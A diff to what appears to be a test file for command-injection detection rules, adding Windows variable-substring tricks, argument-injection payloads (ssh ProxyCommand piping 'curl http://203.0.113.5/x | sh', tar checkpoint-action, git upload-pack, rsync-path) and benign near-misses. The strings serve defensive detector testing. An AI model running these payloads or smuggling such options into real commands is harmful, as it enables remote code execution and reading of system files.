@@ -64,6 +64,9 @@ RULE_CASES: dict[str, list[str]] = {
         # a command put in a variable first, then run from it
         "a;c=whoami;$c",
         ";x=/usr/bin/id; ${x}",
+        # cmd.exe's substring expansion cutting a blank out of a variable
+        "ping%CommonProgramFiles:~10,-18%192.0.2.1",
+        "dir%ProgramFiles:~10,1%c:\\",
     ],
     "HG-CMDI-004": ["() { :;}; /bin/bash -c id", "() { :; }; echo vulnerable"],
     "HG-CMDI-005": [
@@ -84,6 +87,17 @@ RULE_CASES: dict[str, list[str]] = {
     ],
     "HG-CMDI-008": ['<!--#exec cmd="/bin/cat /etc/passwd"-->'],
     "HG-CMDI-009": ["system('cat /etc/passwd')", "eval('whoami');", 'os.system("id")'],
+    # options that run a command of their own where the value is one argument (no shell to break out of)
+    "HG-CMDI-010": [
+        '-oProxyCommand="curl http://203.0.113.5/x | sh"',
+        "host -o ProxyCommand=id",
+        "--use-compress-program=./payload.sh",
+        "--checkpoint=1 --checkpoint-action=exec=sh run.sh",
+        "--upload-pack=touch /tmp/owned",
+        "-c core.sshCommand='sh -c id'",
+        "--gpu-launcher=\"bash -c id\"",
+        "--rsync-path=sh -c id",
+    ],
 }
 STRICT_ONLY = ["whoami", "ifconfig", "uname"]
 
@@ -128,6 +142,11 @@ BENIGN = [
     "a=b; $a",
     "price=5; $price is fine",
     "c='  ';$c",  # a variable of blanks runs nothing
+    # the options named in a sentence, or an SSH config line: no option passed to a program
+    "use --to-command for it",
+    "ProxyCommand ssh -W %h:%p bastion",
+    "the rsync-path option sets the remote program",
+    "50%:~10 minutes",
 ]
 
 
